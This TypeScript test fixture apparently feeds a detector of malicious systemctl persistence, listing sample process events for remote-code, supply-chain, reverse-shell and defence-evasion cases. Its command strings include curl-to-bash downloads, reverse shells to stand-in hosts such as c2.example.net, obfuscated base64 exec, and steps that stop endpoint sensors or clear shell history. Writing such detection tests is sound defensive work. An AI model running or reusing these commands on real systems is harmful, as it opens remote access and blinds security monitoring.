import { type Event, ran, scenarios } from './scenario.ts';

/** systemctl by way of `sh -c` below a server. */
function shell(account: string, server: string, line: string, script = line): Event {
  return ran(account, line, 'sh', `sh -c ${script}`, server);
}

const ENABLE = 'systemctl enable --now updater.service';

const RELOAD = 'systemctl daemon-reload';

const remoteCode = scenarios('malicious', 'application-rce', [
  ['java as root', shell('root', 'java', ENABLE)],
  ['java as an application account', shell('erp', 'java', 'systemctl --user enable --now updater')],
  ['node as root', shell('root', 'node', ENABLE)],
  [
    'node as a deploy account',
    ran(
      'deploy',
      'systemctl --user enable updater',
      'bash',
      '/bin/bash -c systemctl --user enable updater',
      'node',
    ),
  ],
  [
    'python as a deploy account',
    ran(
      'deploy',
      'systemctl --user enable --now updater',
      'sh',
      '/bin/sh -c systemctl --user enable --now updater',
      'python3',
    ),
  ],
  [
    'java with braces and base64',
    ran(
      'root',
      RELOAD,
      'bash',
      '/bin/bash -c {echo,c3lzdGVtY3RsIGRhZW1vbi1yZWxvYWQ=}|{base64,-d}|{bash,-i}',
      'java',
    ),
  ],
  [
    'java with a download',
    ran('root', ENABLE, 'bash', 'bash -c curl -s http://203.0.113.7/a.sh|bash', 'java'),
  ],
  [
    'java with wget',
    ran('root', ENABLE, 'sh', 'sh -c wget -qO- https://updates.example.net/i.sh | sudo bash', 'java'),
  ],
  ['ruby one-liner', ran('root', ENABLE, 'ruby', 'ruby -e system("systemctl enable --now updater")', 'sh')],
  ['perl one-liner', ran('root', ENABLE, 'perl', 'perl -e system("systemctl enable --now updater")', 'bash')],
  [
    'python one-liner',
    ran(
      'root',
      ENABLE,
      'python3',
      'python3 -c import os; os.system("systemctl enable --now updater")',
      'bash',
    ),
  ],
  [
    'python one-liner behind sudo',
    ran('root', ENABLE, 'python3', 'sudo -n -u root python3 -cimport os', 'bash'),
  ],
  [
    'node one-liner',
    ran(
      'root',
      ENABLE,
      'node',
      'node -e require("child_process").execSync("systemctl enable --now updater")',
      'bash',
    ),
  ],
  ['code from a pipe of names', ran('root', ENABLE, 'python3', 'python3 /dev/fd/63', 'bash')],
  [
    'variables for spaces',
    ran('root', ENABLE, 'sh', 'sh -c systemctl$IFS$9enable$IFS$9--now$IFS$9updater', 'java'),
  ],
]);

const supplyChain = scenarios('malicious', 'supply-chain', [
  [
    'decoded code enables a user unit',
    ran(
      'dana',
      'systemctl --user enable --now sysmon.service',
      'python3',
      "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
      'python3',
    ),
  ],
  [
    'decoded code reloads',
    ran(
      'dana',
      'systemctl --user daemon-reload',
      'python3.12',
      "/usr/bin/python3.12 -c import base64;exec(base64.b64decode('aW1wb3J0IG9z'))",
      'python3.12',
    ),
  ],
  [
    'compressed code',
    ran(
      'dana',
      'systemctl --user enable sysmon',
      'python3',
      "python3 -c import zlib,base64;exec(zlib.decompress(base64.b64decode('eJw=')))",
      'pip3',
    ),
  ],
  [
    'a package script in node',
    ran(
      'dana',
      'systemctl --user enable --now sysmon',
      'node',
      "node -e eval(Buffer.from('cmVxdWlyZQ==','base64').toString())",
      'npm',
    ),
  ],
  [
    'a package script in a hidden place',
    ran('dana', 'systemctl --user enable sysmon', 'node', 'node /home/dana/.sysmon/agent.js', 'sh'),
  ],
  [
    'a script in the cache of an interpreter',
    ran('dana', 'systemctl --user enable sysmon', 'python3', 'python3 /tmp/.pip-cache/init.py', 'python3'),
  ],
  [
    'curl into a shell',
    ran(
      'dana',
      'systemctl --user enable sysmon',
      'bash',
      'bash -c curl -fsSL https://install.example.net/x | bash',
      'node',
    ),
  ],
]);

const reverseShells = scenarios('malicious', 'reverse-shell', [
  [
    "bash's network files",
    ran('root', ENABLE, 'bash', 'bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1', 'python3'),
  ],
  [
    'mkfifo and netcat',
    ran(
      'root',
      ENABLE,
      'sh',
      'sh -c rm -f /var/f;mkfifo /var/f;cat /var/f|sh -i 2>&1|nc 198.51.100.23 4444 >/var/f',
      'java',
    ),
  ],
  ['netcat with -e', ran('root', ENABLE, 'sh', 'sh -c nc -e /bin/sh c2.example.net 4444', 'perl')],
  ['socat', ran('root', ENABLE, 'sh', 'sh -c socat exec:bash,pty tcp:c2.example.net:4444', 'java')],
  [
    'python socket',
    ran('root', ENABLE, 'python3', 'python3 -c import socket,pty;s=socket.socket();pty.spawn("sh")', 'bash'),
  ],
  [
    'openssl',
    ran(
      'root',
      ENABLE,
      'sh',
      'sh -c mkfifo /var/s; sh -i < /var/s | openssl s_client -quiet -connect c2.example.net:443 > /var/s',
      'java',
    ),
  ],
]);

const evasion = scenarios('malicious', 'defence-evasion', [
  [
    'sensor stopped first',
    ran('root', ENABLE, 'sh', 'sh -c systemctl stop mdatp; systemctl enable --now updater', 'python3'),
  ],
  [
    'cloud agents removed',
    ran(
      'root',
      ENABLE,
      'bash',
      'bash -c systemctl disable aliyun.service; pkill AliYunDun; systemctl enable updater',
      'perl',
    ),
  ],
  ['history off', ran('root', ENABLE, 'bash', 'bash -c unset HISTFILE; systemctl enable updater', 'perl')],
  ['an ancestor in brackets', ran('root', ENABLE, 'python3', '[kworker/0:1]', 'sh')],
  ['a miner among the ancestors', ran('root', ENABLE, 'python3', 'python3 /usr/lib/run.py', 'kdevtmpfsi')],
]);

/** Attacks that the code which ran gives away. */
export const maliciousCodeScenarios = [...remoteCode, ...supplyChain, ...reverseShells, ...evasion];
